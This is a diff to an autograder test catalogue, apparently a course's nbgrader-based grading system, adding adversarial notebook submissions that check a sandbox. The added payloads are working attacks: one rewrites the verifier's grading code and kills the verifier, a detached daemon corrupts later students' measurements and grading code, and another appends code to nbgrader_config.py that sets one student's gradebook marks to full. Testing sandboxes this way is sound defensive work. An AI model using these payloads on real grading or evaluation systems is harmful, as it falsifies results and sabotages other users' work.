@@ -275,6 +275,100 @@ def with_markdown(source):
     return make
 
 
+# --- Attacks on the grader's machine (issue 10: the sandbox) ----------------------------------------
+
+# Attack 1: find the grading run's folder from the kernel's environment, rewrite the verifier's copy
+# of the grading code there (pass this student, fail everyone else) and kill the verifier, so that it
+# restarts with that code. Together with empty test cells: a blank notebook "verified" in full.
+TAKE_OVER_VERIFIER = r"""
+# Take over the verifier: rewrite its grading code in the grading run's folder, then kill it.
+import os, pathlib, signal
+_here = os.environ.get("ASL_GRADING_DIR", "")
+_fake = (
+    "\n\ndef verify(grade_id, folder, *args, **kwargs):\n"
+    "    import pathlib\n"
+    "    p = pathlib.Path(str(folder))\n"
+    "    mine = any((q / 'x_takeover_marker').exists() for q in (p, *p.parents))\n"
+    "    return [] if mine else ['the grader was taken over by another submission']\n")
+if _here:
+    for _m in (pathlib.Path(_here) / "artefacts", pathlib.Path(_here)):
+        try:
+            _m.mkdir(parents=True, exist_ok=True)
+            (_m / "x_takeover_marker").write_text("1")
+        except OSError:
+            pass
+    for _root in {pathlib.Path(_here).parent, pathlib.Path(_here).parent.parent}:
+        for _f in list(_root.rglob("grading.py")) + list(_root.rglob("grading/__init__.py")):
+            try:
+                _f.write_text(_f.read_text() + _fake)
+            except OSError:
+                pass
+for _pid in os.listdir("/proc"):
+    try:
+        if _pid.isdigit() and b"verifier" in pathlib.Path(f"/proc/{_pid}/cmdline").read_bytes():
+            os.kill(int(_pid), signal.SIGKILL)
+    except OSError:
+        pass
+"""
+
+# Attack 2: a daemon (setsid and a double fork) outlives its kernel and, while the next students
+# are graded, overwrites what their hidden tests measure and the grading code their kernels load.
+SETSID_DAEMON = r"""
+# A daemon that survives this kernel and sabotages the students graded after it.
+import os, pathlib, sys
+_mine = os.environ.get("ASL_GRADING_DIR", "/nonexistent")
+_code = (
+    "import os, pathlib, time\n"
+    f"mine, run, end = {_mine!r}, {str(pathlib.Path(_mine).parent)!r}, time.time() + 900\n"
+    "while time.time() < end:\n"
+    "    for f in pathlib.Path(run).rglob('*'):\n"
+    "        if str(f).startswith(mine) or not f.is_file():\n"
+    "            continue\n"
+    "        try:\n"
+    "            if 'artefacts' in f.parts:\n"
+    "                f.write_bytes(b'sabotaged')\n"
+    "            elif f.suffix == '.py':\n"
+    "                f.write_text('raise SystemExit(1)')\n"
+    "        except OSError:\n"
+    "            pass\n"
+    "    time.sleep(0.5)\n")
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", _code])
+    os._exit(0)
+"""
+
+# Attack 6: append code to the course's nbgrader_config.py (found above the kernel's working folder):
+# the instructor's next nbgrader command (generate_feedback, export, formgrader) runs it; it gives
+# this student full marks in the gradebook.
+WRITE_NBGRADER_CONFIG = r"""
+# Append a payload to the course's nbgrader_config.py.
+import pathlib
+_payload = (
+    "\n# --- appended by a submission ---\n"
+    "import sqlite3 as _sq, os as _os\n"
+    "try:\n"
+    "    _db = _sq.connect(_os.path.join(c.CourseDirectory.root, 'gradebook.db'))\n"
+    "    _db.execute('UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells '\n"
+    "                'WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN (SELECT sn.id FROM '\n"
+    "                'submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id '\n"
+    "                'WHERE sa.student_id = \"x01_config_write\")')\n"
+    "    _db.commit()\n"
+    "except Exception:\n"
+    "    pass\n")
+for _d in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
+    _cfg = _d / "nbgrader_config.py"
+    if _cfg.is_file():
+        try:
+            with open(_cfg, "a") as _f:
+                _f.write(_payload)
+        except OSError:
+            pass
+        break
+"""
+
+
 def catalogue() -> list[Submission]:
     return [
         # --- notebook 1: preparing the data (6 points) ---
@@ -320,9 +414,10 @@ def catalogue() -> list[Submission]:
                                                 edited_test_cells),
                    {"test_normalize", "test_one_hot", "test_reshape"}, kind="adversarial",
                    what="test cells edited to pass, deleted, and given 100 points"),
-        Submission("x01_rewrite_grading", A1, edit(A1, NO_SCALING, after_setup(REWRITE_GRADING_CODE)), ALL(A1),
-                   ("measurements of this exercise are missing",), kind="adversarial",
-                   what="rewrites the grading code the hidden tests load (its copy on disk) to pass everything"),
+        Submission("x01_rewrite_grading", A1, edit(A1, NO_SCALING, after_setup(REWRITE_GRADING_CODE)),
+                   {"test_normalize"}, kind="adversarial",
+                   what="rewrites the grading code the hidden tests load (its copy on disk) to pass everything "
+                        "(read-only in the sandbox: only its wrong answer loses)"),
         Submission("x01_chdir_delete", A1, edit(A1, lambda nb: cr.insert_after(nb, "test_load_csv", CHDIR_AND_DELETE)),
                    set(), kind="adversarial",
                    what="deletes the data (its copy and the grader's folder) and changes the working directory"),
@@ -442,6 +537,20 @@ def catalogue() -> list[Submission]:
                    what="the full solution, graded after the adversarial submission"),
         Submission("zz04_solution", A4, sol(A4), set(), kind="baseline",
                    what="the full solution, graded after the adversarial submissions", needs_real=False),
+        # attacks on the grader's machine: each kernel runs in a sandbox (asl_course.sandbox)
+        Submission("x01_take_over_verifier", A1, lambda root: cr.insert_after(
+            cr.release_notebook(root, A1), None, BLANK_TEST_CELLS + TAKE_OVER_VERIFIER), ALL(A1),
+            kind="adversarial",
+            what="a blank notebook with emptied test cells that rewrites the verifier's grading code in the "
+                 "grading run's folder and kills the verifier (the sandbox shows it neither)"),
+        Submission("x01_setsid_daemon", A1, edit(A1, NO_SCALING, after_setup(SETSID_DAEMON)), {"test_normalize"},
+                   kind="adversarial",
+                   what="a setsid, double-forked daemon that outlives its kernel to overwrite the next students' "
+                        "measurements and grading code (it dies with its sandbox)"),
+        Submission("x01_config_write", A1, edit(A1, NO_SCALING, after_setup(WRITE_NBGRADER_CONFIG)),
+                   {"test_normalize"}, kind="adversarial",
+                   what="appends code to the course's nbgrader_config.py that gives it full marks in the next "
+                        "nbgrader command (the course folder does not exist in the sandbox)"),
     ]
 
 
